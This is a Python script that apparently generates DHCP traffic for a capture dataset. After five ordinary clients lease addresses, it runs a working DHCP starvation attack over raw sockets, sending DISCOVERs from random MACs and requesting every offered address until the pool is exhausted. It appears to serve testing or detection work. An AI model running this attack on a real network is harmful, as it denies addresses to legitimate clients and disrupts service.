"""DHCP traffic on one interface (raw Ethernet frames), for scripts/make-dhcp-starvation.sh:
five ordinary clients lease an address (DISCOVER, OFFER, REQUEST, ACK) a few seconds apart,
then a starvation run sends DISCOVERs from random client MACs, 25 a second for 12 s, and
requests every address offered, as dhcpstarv does. Seeded: the same frames every run. Usage: dhcp-starvation.py IFACE"""
import random
import socket
import struct
import sys
import time

iface = sys.argv[1]
rng = random.Random(4242)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
s.bind((iface, 0))
s.settimeout(0.05)


def csum(b: bytes) -> int:
    if len(b) % 2:
        b += b"\0"
    t = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while t >> 16:
        t = (t & 0xFFFF) + (t >> 16)
    return ~t & 0xFFFF


def dhcp(mac: bytes, xid: int, kind: int, requested: bytes | None = None, server: bytes | None = None) -> bytes:
    body = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 1, 1, 6, 0, xid, 0, 0x8000, b"\0" * 4, b"\0" * 4, b"\0" * 4, b"\0" * 4, mac + b"\0" * 10, b"\0" * 64, b"\0" * 128)
    opts = b"\x63\x82\x53\x63" + bytes([53, 1, kind]) + bytes([61, 7, 1]) + mac
    if requested:
        opts += bytes([50, 4]) + requested
    if server:
        opts += bytes([54, 4]) + server
    opts += bytes([55, 4, 1, 3, 6, 15, 255])
    payload = body + opts
    udp = struct.pack("!HHHH", 68, 67, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), rng.randrange(65536), 0, 64, 17, 0, b"\0" * 4, b"\xff" * 4)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return b"\xff" * 6 + mac + b"\x08\x00" + ip + udp


def offer(f: bytes) -> tuple[int, bytes, bytes] | None:
    """A server's OFFER (to port 68): (transaction id, offered address, server id), else None."""
    if len(f) < 282 or f[12:14] != b"\x08\x00" or f[23] != 17 or f[36:38] != b"\x00\x44":
        return None
    bootp = f[42:]
    opts = bootp[240:]
    i, kind, server = 0, 0, b"\0" * 4
    while i < len(opts) and opts[i] != 255:
        if opts[i] == 0:
            i += 1
            continue
        if opts[i] == 53:
            kind = opts[i + 2]
        if opts[i] == 54:
            server = opts[i + 2:i + 6]
        i += 2 + opts[i + 1]
    return (struct.unpack("!I", bootp[4:8])[0], bootp[16:20], server) if kind == 2 else None


def frames(until: float):
    """The frames received until `until` (time.time())."""
    while time.time() < until:
        try:
            yield s.recv(2048)
        except socket.timeout:
            continue


def offer_for(xid: int, wait: float) -> tuple[bytes, bytes] | None:
    """The OFFER answering `xid`: (offered address, server id), or None."""
    for f in frames(time.time() + wait):
        got = offer(f)
        if got and got[0] == xid:
            return got[1], got[2]
    return None


def mac_of(prefix: bytes) -> bytes:
    return prefix + bytes(rng.randrange(256) for _ in range(6 - len(prefix)))


# Ordinary clients: a full lease each.
for _ in range(5):
    mac = mac_of(b"\x52\x54\x00")
    xid = rng.getrandbits(32)
    s.send(dhcp(mac, xid, 1))
    got = offer_for(xid, 4.0)  # dnsmasq ARP-probes an address for about 3 s before offering it
    if got:
        s.send(dhcp(mac, xid, 3, requested=got[0], server=got[1]))
    time.sleep(1.5)
time.sleep(3)
# The starvation run: random locally administered MACs, one DISCOVER each, and a REQUEST for
# every OFFER that comes back, so the leases are taken and the pool runs dry.
start = time.time()
n = requests = 0
pending: dict[int, bytes] = {}
while time.time() - start < 12:
    mac = bytes([rng.randrange(256) & 0xFE | 0x02]) + bytes(rng.randrange(256) for _ in range(5))
    xid = rng.getrandbits(32)
    pending[xid] = mac
    s.send(dhcp(mac, xid, 1))
    n += 1
    for f in frames(time.time() + 0.04):
        got = offer(f)
        if got and got[0] in pending:
            s.send(dhcp(pending.pop(got[0]), got[0], 3, requested=got[1], server=got[2]))
            requests += 1
print(f"sent 5 leases, {n} starvation DISCOVERs and {requests} REQUESTs", file=sys.stderr)
